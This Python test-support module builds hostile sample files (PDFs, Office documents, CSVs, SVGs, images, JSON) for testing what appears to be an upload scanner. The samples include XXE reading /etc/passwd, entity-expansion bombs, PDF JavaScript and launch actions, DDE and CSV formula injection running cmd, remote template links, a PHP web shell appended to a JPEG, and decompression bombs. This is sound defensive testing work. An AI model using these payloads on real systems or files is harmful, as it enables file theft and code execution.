"""Files that mean harm, as they come by mail and from scanners for holes. None of them does anything here."""

import json
import struct
import zlib
from collections.abc import Iterator

from tests.support.honest_files import HEAD, Named, object_stream, office, office_parts, pdf, relation, relations
from tests.support.hostile_archives import hostile_archives
from tests.support.pictures import jpeg, png
from tests.support.raw_zip import plain

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
XXE = f'{HEAD}<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = f'{HEAD}<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
SCRIPT = b"<</Type/Action /S /JavaScript /JS (app.alert(1))>>"


def _pdfs() -> Iterator[tuple[str, Named]]:
    objects = {
        "a script": SCRIPT,
        "a script on opening": b"9 0 obj <</OpenAction %b>> endobj" % SCRIPT,
        "a script in disguise": b"<</S /J#61vaScript /J#53 (app.alert(1))>>",
        "a script all in disguise": b"<</S /" + b"".join(b"#%02x" % char for char in b"JavaScript") + b">>",
        "a script in a comment for others": b"%stream\n9 0 obj <</S/JavaScript>> endobj\n%endstream",
        "a named script": b"<</Names <</JavaScript 12 0 R>>>>",
        "a program": b"<</S /Launch /F (cmd.exe)>>",
        "a program for Windows": b"<</S/Launch/Win <</F (powershell.exe)>>>>",
        "a file inside": b"<</Type /Filespec /EF <</F 9 0 R>>>> <</Type /EmbeddedFile>>",
        "a list of files inside": b"<</Names <</EmbeddedFiles 9 0 R>>>>",
        "a portfolio": b"<</Collection 9 0 R>>",
        "a way into a file inside": b"<</S /GoToE /T 9 0 R>>",
        "a form that is sent": b"<</S /SubmitForm /F (https://example.org)>>",
        "a form that is filled from elsewhere": b"<</S /ImportData /F (a.fdf)>>",
        "a form of XFA in parts": b"<</AcroForm <</XFA[(a) 9 0 R]>>>>",
        "a form of XFA behind a remark": b"<</AcroForm <</XFA%x\n9 0 R>>>>",
        "a form of XFA": b"<</AcroForm <</XFA 9 0 R>>>>",
        "a film": b"<</Subtype /RichMedia>>",
        "a sound": b"<</S /Rendition>>",
        "a password": b"trailer <</Encrypt 9 0 R>>",
        "a packed script": object_stream(b"12 0 <</S/JavaScript/JS(1)>>"),
        "a packed script in disguise": object_stream(b"12 0 <</S/#4aavaScript>>"),
        "a packed file": object_stream(b"12 0 <</EF<</F 1 0 R>>>><</Type/EmbeddedFile>>"),
        "a script packed twice": object_stream(
            b"", declared=b"/Filter [/ASCIIHexDecode /FlateDecode]", packed=zlib.compress(b"12 0 x").hex().encode()
        ),
        "objects packed in an unusual way": object_stream(b"", declared=b"/Filter /LZWDecode", packed=b"\x80\x0b\x60"),
        "objects that are nowhere": b"<</Type/ObjStm/N 1/First 5>>",
        "more streams than any": b"stream\n" * 300_100,
        "names in disguise throughout": b"/#4a" * 200_100,
        "objects that begin with a comment": object_stream(b"%x\n12 0 <</S/JavaScript>>"),
        "objects that unpack to too much": object_stream(b"12 0 " + bytes(17_000_000)),
    }
    for what, extra in objects.items():
        yield f"a PDF with {what}", ("a.pdf", pdf(objects=extra + b"\n"))
    yield "a PDF that is an archive too", ("a.pdf", pdf() + plain({"a.csv": b"a;b"}))
    yield "a PDF with a program behind it", ("a.pdf", pdf() + b"\nMZ" + bytes(5_000) + b"x")
    yield "a PDF that is a page too", ("a.pdf", b"%PDF-1.7\n<script>alert(1)</script>")
    yield "a PDF named as a picture", ("a.png", pdf())
    yield "a PDF behind something else", ("a.pdf", b"GIF89a" + pdf())


def _office() -> Iterator[tuple[str, Named]]:
    def out(kind: str, target: str) -> str:
        return relations(relation(kind, target, external=True))

    rels = "word___rels__document_dot_xml_dot_rels"
    book = "xl__externalLinks___rels__externalLink1_dot_xml_dot_rels"
    fields = (
        '<w:instrText>DD</w:instrText><w:r/><w:instrText xml:space="preserve">EAUTO c:\\\\cmd.exe "/k"</w:instrText>'
    )
    nested = office("xlsx", xl__embeddings__b_dot_docx=office("docx"))
    parts: dict[str, tuple[str, str, dict[str, bytes | str]]] = {
        "macros": ("xlsx", "", {"xl__vbaProject_dot_bin": OLE}),
        "macros elsewhere": ("docx", "", {"word__VBAPROJECT_dot_BIN": OLE}),
        "old macros": ("xlsx", "", {"xl__macrosheets__sheet1_dot_xml": "<m/>"}),
        "old dialogs": ("xlsx", "", {"xl__dialogsheets__sheet1_dot_xml": "<m/>"}),
        "a control": ("docx", "", {"word__activeX__activeX1_dot_xml": "<m/>"}),
        "buttons of its own": ("xlsx", "", {"customUI__customUI_dot_xml": "<m/>"}),
        "an object inside": ("docx", "", {"word__embeddings__oleObject1_dot_bin": OLE}),
        "a program inside": ("docx", "", {"word__media__image1_dot_png": b"MZ\x90\x00"}),
        "a program of its own kind": ("pptx", "", {"ppt__media__run_dot_exe": b"MZ"}),
        "a page inside": ("docx", "", {"word__afchunk_dot_mht": "<html>"}),
        "a link to a workbook in the web": ("xlsx", "", {book: out("externalLinkPath", "https://example.org/a.xlsx")}),
        "a link to a workbook on a share": ("xlsx", "", {book: out("externalLinkPath", "file:///\\\\srv\\a.xlsx")}),
        "a link to a workbook on a share in disguise": (
            "xlsx",
            "",
            {book: out("externalLinkPath", "file:///%5C%5Csrv/a.xlsx")},
        ),
        "a link to a workbook on a server": ("xlsx", "", {book: out("externalLinkPath", "file://srv/d/a.xlsx")}),
        "a link to a workbook behind a stray tab": ("xlsx", "", {book: out("externalLinkPath", "/&#9;/srv/a.xlsx")}),
        "a link to a program that answers": (
            "xlsx",
            "",
            {"xl__externalLinks__a_dot_xml": '<x><ddeLink ddeTopic="/C"/>'},
        ),
        "a picture from outside in other letters": (
            "docx",
            "",
            {"word___rels__document_dot_xml_dot_RELS": out("image", "http://example.org/a.png")},
        ),
        "a picture that is fetched by a field": (
            "docx",
            '<w:instrText>INCLUDEPICTURE "http://x/a.png" \\d</w:instrText>',
            {},
        ),
        "DDE by another prefix": ("docx", "<x:instrText>DDEAUTO c</x:instrText>", {}),
        "DDE in numbered letters": ("docx", "<w:instrText>DD&#69;AUTO c</w:instrText>", {}),
        "DDE behind a mark": ("docx", "<w:instrText><![CDATA[DDEAUTO c]]></w:instrText>", {}),
        "DDE in another folder": ("docx", "", {"elsewhere__a_dot_xml": "<w:p><w:instrText>DDE c</w:instrText></w:p>"}),
        "a formula that fetches in numbered letters": (
            "xlsx",
            "",
            {"xl__worksheets__a_dot_xml": "<s><f>WEB&#83;ERVICE(A1)</f></s>"},
        ),
        "a name that fetches": ("xlsx", "<definedName name='a'>_xlfn.WEBSERVICE(A1)</definedName>", {}),
        "a connection": ("xlsx", "", {"xl__connections_dot_xml": "<x/>"}),
        "an add-in": ("xlsx", "", {"xl__webextensions__taskpanes_dot_xml": "<x/>"}),
        "a template from outside": ("docx", "", {rels: out("attachedTemplate", "http://example.org/a.dotm")}),
        "an object from outside": ("docx", "", {rels: out("oleObject", "http://example.org/a")}),
        "a picture from outside": ("docx", "", {rels: out("image", "http://example.org/a.png")}),
        "a picture from a share": ("pptx", "", {"ppt___rels__a_dot_xml_dot_rels": out("image", "file://srv/a.png")}),
        "a link to a file": ("docx", "", {rels: out("hyperlink", "file:///C:/Windows/a.exe")}),
        "a link to a share": ("docx", "", {rels: out("hyperlink", "\\\\srv\\a")}),
        "a link that runs": ("docx", "", {rels: out("hyperlink", "ms-msdt:/id PCWDiagnostic")}),
        "a link to a script": ("xlsx", "", {"xl___rels__a_dot_xml_dot_rels": out("hyperlink", "javascript:alert(1)")}),
        "DDE": ("docx", "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>", {}),
        "DDE in pieces": ("docx", fields, {}),
        "DDE in a simple field": ("docx", '<w:fldSimple w:instr=" dde excel a b "/>', {}),
        "a text from outside": ("docx", "<w:instrText>INCLUDETEXT \\\\\\\\srv\\\\a</w:instrText>", {}),
        "DDE in a cell": ("xlsx", "", {"xl__worksheets__a_dot_xml": "<s><f>cmd|'/c calc'!A0</f></s>"}),
        "a service in a cell": ("xlsx", "", {"xl__worksheets__a_dot_xml": '<s><f>WEBSERVICE("http://x")</f></s>'}),
        "a program on a slide": ("pptx", '<a:hlinkClick action="ppaction://program"/>', {}),
        "a macro on a slide": ("pptx", '<a:hlinkClick action="ppaction://macro?name=a"/>', {}),
        "an entity": ("docx", "", {"word__styles_dot_xml": XXE}),
        "an entity in a sheet": ("xlsx", "", {"xl__worksheets__sheet1_dot_xml": XXE}),
        "a million laughs": ("xlsx", "", {"xl__sharedStrings_dot_xml": LAUGHS}),
        "an entity in UTF-16": ("docx", "", {"word__styles_dot_xml": XXE.encode("utf-16")}),
        "an entity in UTF-16 without a mark": ("docx", "", {"word__styles_dot_xml": XXE.encode("utf-16-le")}),
        "an archive for a chart": ("pptx", "", {"ppt__embeddings__a_dot_xlsx": plain({"a.csv": b"a"})}),
        "a workbook in a workbook": ("pptx", "", {"ppt__embeddings__a_dot_xlsx": nested}),
        "an entity in UTF-7": ("docx", "", {"word__a_dot_xml": '<?xml version="1.0" encoding="utf-7"?>+ADw-a/>'}),
        "an entity in its relations": ("pptx", "", {"ppt___rels__a_dot_xml_dot_rels": XXE}),
        "a script in a drawing": ("docx", "", {"word__media__a_dot_svg": '<svg onload="alert(1)"/>'}),
        "macros in a chart": (
            "pptx",
            "",
            {"ppt__embeddings__a_dot_xlsx": office("xlsx", xl__vbaProject_dot_bin=OLE)},
        ),
        "a sheet that unpacks to too much": ("xlsx", "", {"xl__worksheets__a_dot_xml": b"<s>" + b" " * 21_000_000}),
    }
    for what, (kind, body, more) in parts.items():
        yield f"a {kind} with {what}", (f"a.{kind}", office(kind, body, **more))
    yield (
        "a workbook for macros under another name",
        ("a.xlsx", _typed("sheet.main+xml", "sheet.macroEnabled.main+xml")),
    )
    yield "a document whose text is called a picture", ("a.docx", _disguised())
    yield "a template under another name", ("a.xlsx", _typed("sheet.main+xml", "template.main+xml"))
    yield "a document without relations", ("a.xlsx", _without("_rels/.rels"))
    yield "types with an entity", ("a.xlsx", plain(office_parts("xlsx") | {"[Content_Types].xml": XXE}))
    yield "types that are none", ("a.xlsx", plain(office_parts("xlsx") | {"[Content_Types].xml": "x"}))
    yield "a workbook named as a document", ("a.docx", office("xlsx"))
    yield "a document with macros by its name", ("a.docm", office("docx"))
    yield "a workbook with a password", ("a.xlsx", OLE + bytes(4_000))
    yield "an old workbook", ("a.xls", OLE + bytes(4_000))


def _others() -> Iterator[tuple[str, Named]]:
    geo = {"type": "FeatureCollection", "features": []}
    yield "a program", ("a.exe", b"MZ\x90\x00")
    yield "a program named as a PDF", ("a.pdf", b"MZ\x90\x00")
    yield "a page", ("a.html", b"<html><script>alert(1)</script>")
    yield "a page named as a table", ("a.csv", b"\n <html><script>alert(1)</script>")
    yield "a drawing", ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    yield "XML named as a note", ("a.txt", XXE.encode())
    yield "a table with DDE", ("a.csv", b"nama;nilai\nA;=cmd|'/C calc'!A0\n")
    yield "a table with DDE behind a quote", ("a.csv", b"nama,nilai\nA,\"@SUM(1)*cmd|'/C calc'!A0\"\n")
    yield "a table with DDE behind a sign", ("a.csv", b"nama\n-2+3+cmd|' /C calc'!A0\n")
    yield "a table that fetches", ("a.csv", b'nama\n=IMPORTXML("http://x";"//a")\n')
    yield "a table in UTF-16 with DDE", ("a.csv", "nama\n=cmd|'/C calc'!A0\n".encode("utf-16"))
    yield "a table with NULs", ("a.csv", b"a,b\n\x00\x01")
    yield "nothing", ("a.csv", b"")
    yield "spaces", ("a.txt", b" \r\n ")
    yield "no ending", ("a", b"text")
    yield "a map that is a table", ("a.geojson", b"kode,nama\n")
    yield "a map that is only JSON", ("a.geojson", b'{"a": 1}')
    yield "a map of another kind", ("a.geojson", json.dumps(geo | {"type": "Topology"}).encode())
    yield "a map that is cut", ("a.geojson", json.dumps(geo).encode()[:-1])
    yield "a map with a script behind it", ("a.geojson", json.dumps(geo).encode() + b"<script>")
    yield "a map that is too deep", ("a.geojson", b'{"type":"Point","a":' + b"[" * 5_000 + b"]" * 5_000 + b"}")
    yield "a map that never ends", ("a.geojson", b'{"type":"Feature","a":"' + b'\\"' * 500_000)
    yield "JSON that closes wrongly", ("a.json", b'{"a": [1, 2}')
    yield "JSON whose brackets cross", ("a.json", b'{"a": ["x"}]')
    yield "a map in UTF-16", ("a.geojson", json.dumps(geo).encode("utf-16"))
    yield "a table in UTF-16 with NULs", ("a.csv", "a\x00b\n".encode("utf-16"))
    yield "a page in UTF-16", ("a.txt", "<script>alert(1)</script>".encode("utf-16"))
    yield "a picture of a page", ("a.png", b"\x89PNG\r\n\x1a\n" + bytes(20))
    yield "a picture that is too large", ("a.png", png(1, 1).replace(struct.pack(">II", 1, 1), b"\x00\x01\x00\x00" * 2))
    yield "a picture named as another", ("a.jpg", png(2, 2))
    yield "a picture that is an archive too", ("a.png", png(2, 2) + plain({"a.csv": b"a"}))
    yield "a photo that is an archive too", ("a.jpg", jpeg(2, 2) + plain({"a.csv": b"a"}))
    yield "a photo with a program", ("a.jpg", jpeg(2, 2) + b"<?php system($_GET[0]); ?>")
    yield "a moving picture", ("a.gif", b"GIF89a" + bytes(20))
    yield "an archive of another kind", ("a.rar", b"Rar!\x1a\x07\x01\x00")
    yield "an archive of a third kind", ("a.7z", b"7z\xbc\xaf\x27\x1c")
    yield "a packed file", ("a.gz", b"\x1f\x8b\x08\x00")
    yield "a PDF named by two endings", ("a.pdf.exe", pdf())


def hostile() -> Iterator[tuple[str, Named]]:
    """What it is, the name under which it comes, its bytes."""
    yield from hostile_archives()
    yield from _pdfs()
    yield from _office()
    yield from _others()


def _typed(before: str, after: str) -> bytes:
    parts = office_parts("xlsx")
    return plain(parts | {"[Content_Types].xml": str(parts["[Content_Types].xml"]).replace(before, after)})


def _disguised() -> bytes:
    told = {name: str(part).replace("word/document.xml", "word/a.png") for name, part in office_parts("docx").items()}
    told["word/a.png"] = told.pop("word/document.xml")
    return plain({**told})


def _without(name: str) -> bytes:
    parts = office_parts("xlsx")
    del parts[name]
    return plain(parts)
